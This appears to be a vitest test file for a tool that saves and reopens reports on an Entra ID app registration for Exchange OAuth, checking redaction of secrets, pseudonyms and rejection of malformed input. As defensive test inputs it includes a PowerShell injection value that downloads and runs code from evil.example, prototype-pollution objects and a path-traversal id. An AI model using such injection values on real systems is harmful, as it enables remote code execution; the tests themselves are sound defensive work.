import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { timeAtMicrosoft } from '../../src/checks/clock';
import { hintsAreHidden } from '../../src/report/discretion';
import { spokenLines } from '../../src/report/speech';
import { HIDDEN_HINT } from '../../src/tenant/hidden-hint';
import { checkedFacts } from '../../src/report/facts';
import { pseudonymise } from '../../src/report/pseudonyms';
import { makeReport, parseReport, problemOf, readReport, RULES, type Report } from '../../src/report/report';
import { isPseudonym } from '../../src/tenant/pseudonym';
import type { Snapshot } from '../../src/tenant/snapshot';
import { demos } from '../../src/emulator/tenants';
import { guide, judged, NOW, reopened, reportOf, SALT, statuses, visited, visits } from './made';
import { inputsOf } from '../../src/ui/session/inputs';
import { expectQuick } from '../project/quick';
import { settings } from '../properties/settings';

/** A secret as Entra makes them, and a token. */
const SECRET = ['Wq3', '8Q~', 'AbCdEfGhIjKlMnOpQrStUvWxYz_.12345'].join('');
const TOKEN = 'eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJhdWQiOiJodHRwcyJ9.c2lnbmF0dXJl';

describe('a report', () => {
  test.each(Object.keys(demos))('of the demo „%s“ judges the same when it is opened', async (name) => {
    const visit = await visited(name);
    const opened = reopened(await reportOf(name));
    expect(statuses(judged(opened))).toEqual(statuses(judged(visit)));
  });

  test('keeps where and when it was read', async () => {
    const opened = reopened(await reportOf('fertig'));
    expect(opened).toMatchObject({
      format: 'entra-guide-report',
      version: 1,
      rules: RULES,
      guide: 'exchange-oauth',
      createdAt: NOW.toISOString(),
      source: 'demo',
      pseudonymised: false,
      snapshot: { source: 'demo', readAt: NOW.toISOString() },
    });
  });

  test('of a report says that it is one, and judges the same', async () => {
    const { snapshot, inputs } = reopened(await reportOf('abgelaufen'));
    const again = reopened(makeReport({ guide: guide.name, snapshot, inputs, source: 'import', now: NOW }));
    expect(again.source).toBe('import');
    expect(statuses(judged(again))).toEqual(statuses(judged(await visited('abgelaufen'))));
  });

  test('proves nothing more than what was pasted', async () => {
    const opened = reopened(await reportOf('fertig'));
    const readings = Object.values(opened.snapshot.facts).filter((one) => one.ok);
    expect(readings.length).toBeGreaterThan(10);
    expect(new Set(readings.map(({ proof }) => proof))).toEqual(new Set(['paste']));
    const green = judged(opened).filter(({ status, kind }) => status === 'pass' && kind !== 'registration-complete');
    expect(green.filter(({ proof }) => proof === 'graph').map(({ number }) => number)).toEqual([]);
  });

  test('holds no secret, no part of one and no token, wherever they were put', async () => {
    const { snapshot, inputs } = await visited('fertig');
    const json = JSON.stringify(snapshot).replaceAll('"BüroWARE"', `"alt: ${SECRET}"`).replace('Musterbau GmbH', TOKEN);
    const report = makeReport({
      guide: guide.name,
      snapshot: JSON.parse(json) as typeof snapshot,
      inputs: { ...inputs, clientId: SECRET },
      now: NOW,
    });
    const text = JSON.stringify(report);
    expect(JSON.stringify(snapshot)).toContain('Wq3');
    expect(text).not.toContain('Wq3');
    expect(text).not.toContain('8Q~');
    expect(text).not.toContain('eyJ');
    expect(text).toContain('alt: (geheim, entfernt)');
    expect(judged(report).find(({ kind }) => kind === 'client-id-matches')?.status).toBe('fail');
  });

  test('hides the first characters of a secret, but not that there were some', async () => {
    const opened = reopened(await reportOf('fertig', { secretStart: '' }));
    const application = opened.snapshot.facts.application;
    const secrets = application?.ok ? (application.value?.passwordCredentials ?? []) : [];
    expect(secrets.map(({ hint }) => hint)).toEqual([HIDDEN_HINT]);
    expect(hintsAreHidden(secrets)).toBe(true);
    const [manual] = judged(opened).filter(({ kind }) => kind === 'secret-start-matches');
    expect(manual?.soll).toBe(
      'Der Schlüssel in der BüroWARE/WEBWARE ist ein gültiger dieser Registrierung; wie er beginnt, verdeckt der Bericht. Steht dort eine lange Kennung mit Bindestrichen, ist es die ID des Schlüssels, nicht sein Wert.',
    );
  });

  test('reads out no beginning that it hides', async () => {
    const opened = reopened(await reportOf('fertig', { secretStart: '' }));
    expect(spokenLines(judged(opened), { now: NOW })).not.toContain('•');
  });

  test('keeps the match of a secret by its id', async () => {
    const { inputs } = reopened(await reportOf('fertig'));
    expect(inputs.secret).toEqual({ byHint: ['c5e82f16-09ad-4b37-a0d4-7f6e1c93b528'], byId: [] });
  });

  test('of an older page opens: it kept only the two lists', async () => {
    const report = await reportOf('fertig');
    const secret = { byHint: ['c5e82f16-09ad-4b37-a0d4-7f6e1c93b528'], byId: [] };
    const opened = reopened({ ...report, inputs: { ...report.inputs, secret } });
    expect(opened.inputs.secret).toEqual(secret);
  });

  test.each([
    ['other capitals', 'wQ3', { alike: [{ keyId: 'c5e82f16-09ad-4b37-a0d4-7f6e1c93b528', at: [0, 1] }] }],
    ['too few', 'Wq', { short: 2 }],
  ])('keeps what the characters are like, and none of them: %s', async (_, secretStart, kept) => {
    const report = await reportOf('fertig', { secretStart });
    const { inputs } = reopened(report);
    expect(inputs.secret).toEqual({ byHint: [], byId: [], ...kept });
    expect(JSON.stringify(report)).not.toContain(secretStart);
  });

  test('hides how its secrets begin: what is typed beside it is not compared, and says why', async () => {
    const { snapshot, inputs } = reopened(await reportOf('fertig'));
    const form = { ...inputs, secretStart: 'Wq3' };
    const typed = inputsOf(form, snapshot);
    expect(typed.secret).toEqual({ byHint: [], byId: [], hidden: true });
    const result = judged({ snapshot, inputs: typed }).find(({ kind }) => kind === 'secret-start-matches');
    expect([result?.status, result?.reason]).toEqual(['unknown', 'pseudonym']);
    expect(inputsOf({ ...form, secretStart: '' }, snapshot).secret).toEqual(inputs.secret);
  });

  test('of any directory that Graph can describe judges the same when it is opened', async () => {
    await fc.assert(
      fc.asyncProperty(visits, async (visit) => {
        const { snapshot, inputs, now } = await visit();
        fc.pre(isGraphs(snapshot));
        const before = judged({ snapshot, inputs }, now);
        const opened = reopened(makeReport({ guide: guide.name, snapshot, inputs, now }));
        // It is opened at a computer whose clock is right, whatever the one was that read.
        expect(statuses(judged(opened, timeAtMicrosoft(now, snapshot)))).toEqual(statuses(before));
      }),
      settings(20),
    );
  });
});

/** Whether every id, date and enumeration is one, as Graph's own types demand. */
const isGraphs = ({ facts }: Snapshot) =>
  Object.entries(checkedFacts(facts)).every(([name, { ok }]) => ok === facts[name as keyof typeof facts]?.ok);

describe('a report of what Graph would never send', () => {
  test('is never greener than what was read', async () => {
    let odd = 0;
    await fc.assert(
      fc.asyncProperty(visits, async (visit) => {
        const { snapshot, inputs, now } = await visit();
        fc.pre(!isGraphs(snapshot));
        odd += 1;
        const before = new Map(judged({ snapshot, inputs }, now).map(({ number, status }) => [number, status]));
        const opened = reopened(makeReport({ guide: guide.name, snapshot, inputs, now }));
        // What was pasted for the id that was typed holds, whatever could not be read of its registration.
        const facts = judged(opened, now).filter(({ kind }) => kind !== 'ews-allowed');
        const greener = facts.filter(
          ({ number, status }) => status === 'pass' && before.get(number) !== 'pass' && before.get(number) !== 'warn',
        );
        expect(greener).toEqual([]);
      }),
      settings(50),
    );
    expect(odd).toBeGreaterThan(5);
  }, 60_000);

  const spoil = async (from: RegExp, to: string) => {
    const json = JSON.stringify(await reportOf('fertig'));
    expect(json).toMatch(from);
    return JSON.parse(json.replace(from, to)) as unknown;
  };

  test.each([
    [
      'an application id',
      /("application":\{.*?"appId":)"[^"]*"/,
      `$1"x'; iwr https://evil.example | iex; $z='"`,
      'snapshot.facts.application.value.appId',
    ],
    ['an object id', /("organization":\{.*?"id":)"[^"]*"/, '$1"../../x"', 'snapshot.facts.organization.value.id'],
    [
      'an id of a secret',
      /("typedApplication":\{.*?"keyId":)"[^"]*"/,
      '$1"<b>"',
      'snapshot.facts.typedApplication.value.passwordCredentials.keyId',
    ],
    [
      'an id of an API',
      /("application":\{.*?"resourceAppId":)"[^"]*"/,
      '$1"constructor"',
      'snapshot.facts.application.value.requiredResourceAccess.resourceAppId',
    ],
    ['a directory', /"tenantId":"[^"]*"/, '"tenantId":"musterbau"', 'snapshot.account.tenantId'],
    ['a time of reading', /"readAt":"[^"]*"/, '"readAt":"gestern"', 'snapshot.readAt'],
    ['a source', /"source":"demo"/, '"source":"evil"', 'source'],
  ])('is refused with its place: %s that is none', async (_, from, to, place) => {
    expect(readReport(await spoil(from, to))).toEqual({ problem: 'damaged', place });
  });

  test.each([
    ['an end', /("application":\{.*?"endDateTime":)"[^"]*"/, '$1"bald"'],
    ['an account type', /("application":\{.*?"signInAudience":)"[^"]*"/, '$1"Nur wir"'],
    ['a kind of permission', /("application":\{.*?"resourceAccess":\[\{[^}]*"type":)"[^"]*"/, '$1"Role; x"'],
  ])('loses the fact: %s that is none', async (_, from, to) => {
    const opened = readReport(await spoil(from, to));
    expect('snapshot' in opened && opened.snapshot.facts.application).toEqual({ ok: false, reason: 'malformed' });
  });

  test('may have asked for something that is no id, and then it asked for nothing', async () => {
    const opened = reopened(await spoil(/("ask":\{.*?"appId":)"[^"]*"/, `$1"x'; iwr"`));
    expect(opened.snapshot.ask.appId).toBeUndefined();
  });
});

describe('a report of former days', () => {
  const old = (name: string) =>
    JSON.parse(readFileSync(new URL(`old/${name}.json`, import.meta.url), 'utf8')) as Record<string, unknown>;

  test('opens, and is judged as it was', async () => {
    const opened = reopened(old('named'));
    expect(statuses(judged(opened))).toEqual(statuses(judged(await visited('halb-fertig'))));
    expect(opened.case).toBeUndefined();
  });

  test('with pseudonyms opens with those of today, and what was not read then is not known', async () => {
    const opened = reopened(old('hidden'));
    expect(isPseudonym(opened.inputs.clientId)).toBe(true);
    // Whether Exchange Online's own enterprise app is on, and which organisation its output named, nobody asked then.
    const changed: Readonly<Record<string, string>> = {
      '10.1 pass': '10.1 unknown field-absent',
      '11.1 pass': '11.1 warn',
      '12.1 pass': '12.1 unknown field-absent',
    };
    const today = statuses(judged(await visited('fertig'))).map((one) => changed[one] ?? one);
    expect(statuses(judged(opened))).toEqual(today);
    const hidden = reopened(await pseudonymise(await reportOf('fertig'), SALT));
    expect(opened.inputs.clientId).toBe(hidden.inputs.clientId);
    expect(opened.snapshot.account?.tenantId).toBe(hidden.snapshot.account?.tenantId);
  });
});

describe('a file that is no report', () => {
  const bad: readonly (readonly [string, (report: Report) => unknown, string])[] = [
    ['nothing', () => undefined, 'not-a-report'],
    ['null', () => null, 'not-a-report'],
    ['a text', () => 'entra-guide-report', 'not-a-report'],
    ['a list', (report) => [report], 'not-a-report'],
    ['a manifest', () => ({ appId: 'x', passwordCredentials: [] }), 'not-a-report'],
    ['another format', (report) => ({ ...report, format: 'maester' }), 'not-a-report'],
    ['a newer version', (report) => ({ ...report, version: 2 }), 'newer-version'],
    ['a version in words', (report) => ({ ...report, version: '1' }), 'damaged'],
    ['without snapshot', (report) => ({ ...report, snapshot: undefined }), 'damaged'],
    ['without facts', (report) => ({ ...report, snapshot: { ...report.snapshot, facts: null } }), 'damaged'],
    ['facts as a list', (report) => ({ ...report, snapshot: { ...report.snapshot, facts: [] } }), 'damaged'],
    ['an unreadable time', (report) => ({ ...report, createdAt: 'gestern' }), 'damaged'],
    ['a time out of range', (report) => ({ ...report, createdAt: '+275760-09-13T00:00:00Z' }), 'damaged'],
    ['an unknown source', (report) => ({ ...report, source: 'evil' }), 'damaged'],
    ['inputs missing', (report) => ({ ...report, inputs: undefined }), 'damaged'],
  ];
  test.each(bad)('%s', async (_, spoil, problem) => {
    const spoilt = spoil(await reportOf('fertig'));
    expect(parseReport(spoilt)).toBeUndefined();
    expect(problemOf(spoilt)).toBe(problem);
  });

  test('is not what a good one is', async () => {
    expect(problemOf(await reportOf('leer'))).toBeUndefined();
  });
});

describe('a report with something wrong in it', () => {
  const spoilt = async (change: (json: string) => string) =>
    reopened(JSON.parse(change(JSON.stringify(await reportOf('fertig')))));

  test('loses the fact that does not fit, and says so', async () => {
    const opened = await spoilt((json) => json.replaceAll('"displayName":"SoftENGINE Mailserver"', '"displayName":7'));
    const readings = Object.entries(opened.snapshot.facts).filter(([, one]) => !one.ok);
    expect(readings.map(([name]) => name)).toContain('application');
    for (const [, one] of readings) expect(one).toEqual({ ok: false, reason: 'malformed' });
  });

  test('cannot change what objects are', async () => {
    const opened = await spoilt((json) =>
      json
        .replace('{', '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},')
        .replace('"facts":{', '"facts":{"__proto__":{"polluted":1},"toString":{"ok":true},')
        .replaceAll('"displayName":', '"__proto__":{"polluted":1},"displayName":'),
    );
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(JSON.stringify(opened)).not.toContain('polluted');
    expect(statuses(judged(opened))).toEqual(statuses(judged(await reportOf('fertig'))));
  });

  test('is opened without what nobody knows', async () => {
    const opened = await spoilt((json) =>
      json.replaceAll('"displayName":', '"secretText":"x","token":"x","displayName":'),
    );
    expect(JSON.stringify(opened)).not.toMatch(/secretText|token/);
  });

  test('counts wrong inputs as not given, never as fulfilled', async () => {
    const report = await reportOf('fertig');
    const inputs = {
      clientId: 7,
      domain: null,
      ticks: 'alle',
      chosen: 'x',
      secret: { byHint: 'Wq3' },
      exchange: { ewsEnabled: 'ja' },
    };
    const opened = reopened({ ...report, inputs });
    expect(opened.inputs).toEqual({ clientId: '', domain: '', ticks: [], exchange: { instead: 'unrecognised' } });
    expect(statuses(judged(opened)).filter((one) => /^(5|11|12)/.test(one))).toEqual([
      '5.1 unknown not-typed',
      '5.2 unknown not-typed',
      '11.1 unknown not-understood',
      '12.1 unknown not-typed',
      '12.2 manual',
    ]);
  });

  test('drops odd acceptances, ticks and requests', async () => {
    const report = await reportOf('fertig');
    const good = { number: '4.1', kind: 'account-types', reason: 'bewusst so', until: '2027-01-31' };
    const opened = reopened({
      ...report,
      accepted: [good, { ...good, until: 'immer' }, { ...good, reason: '  ' }, null, 'x', { ...good, number: '1' }],
      inputs: { ...report.inputs, ticks: ['12.2', 'x', null] },
      snapshot: { ...report.snapshot, requests: [{ path: '/me', milliseconds: 3 }, { path: 7 }, null] },
    });
    expect(opened.accepted).toEqual([good]);
    expect(opened.inputs.ticks).toEqual(['12.2']);
    expect(opened.snapshot.requests).toEqual([{ path: '/me', milliseconds: 3 }]);
  });

  test('with five megabytes in a name opens at once, without the fact', async () => {
    const huge = 'x'.repeat(5 * 1024 * 1024);
    const json = JSON.stringify(await reportOf('fertig')).replace('"Musterbau GmbH"', JSON.stringify(huge));
    const open = () => {
      const opened = reopened(JSON.parse(json));
      expect(opened.snapshot.facts.organization).toEqual({ ok: false, reason: 'malformed' });
    };
    await expectQuick(open, 1000);
  });

  test('with a hundred thousand domains or names of a megabyte is judged at once', async () => {
    const report = await reportOf('fertig', { domain: 'musterbua.de' });
    const domains = Array.from({ length: 100_000 }, (_, at) => ({ name: `d${String(at)}.de` }));
    const organization = (verifiedDomains: unknown) => ({
      ok: true,
      proof: 'graph',
      value: [{ id: '3f0c6a52-7d41-4b8e-9a63-51c0e7d2b894', verifiedDomains }],
    });
    const opened = [domains, [{ name: 'x'.repeat(1_000_000) }]].map((all) =>
      reopened({ ...report, snapshot: { ...report.snapshot, facts: { organization: organization(all) } } }),
    );
    for (const { snapshot } of opened) expect(snapshot.facts.organization).toEqual({ ok: false, reason: 'malformed' });
  });

  test('cut off anywhere is no JSON, and nothing more is needed', async () => {
    const json = JSON.stringify(await reportOf('halb-fertig'));
    for (let at = 0; at < json.length; at += 997) expect(() => void JSON.parse(json.slice(0, at))).toThrow(SyntaxError);
  });

  /** The report with one value exchanged or left out, anywhere in it. */
  const mutated = (json: string, place: number, value: unknown) => {
    let at = -1;
    return JSON.parse(json, (_, given: unknown) => {
      at += 1;
      return at === place ? value : given;
    }) as unknown;
  };
  const values = [undefined, null, 0, -1, '', [], {}, '__proto__', true, false, 'x', { value: [] }, [null], 1e308];

  test.each(Object.keys(demos))(
    'of the demo „%s“ never throws and is never greener than the original',
    async (name) => {
      const report = await reportOf(name);
      const json = JSON.stringify(report);
      const green = (results: ReturnType<typeof judged>) =>
        results.filter(({ status }) => status === 'pass' || status === 'done').map(({ number }) => number);
      const before = green(judged(report));
      fc.assert(
        fc.property(fc.nat(json.split(/[,:]/).length), fc.constantFrom(...values), (place, value) => {
          const opened = parseReport(mutated(json, place, value));
          if (!opened) return;
          expect(green(judged(opened)).filter((number) => !before.includes(number))).toEqual([]);
        }),
        settings(20),
      );
    },
  );
});
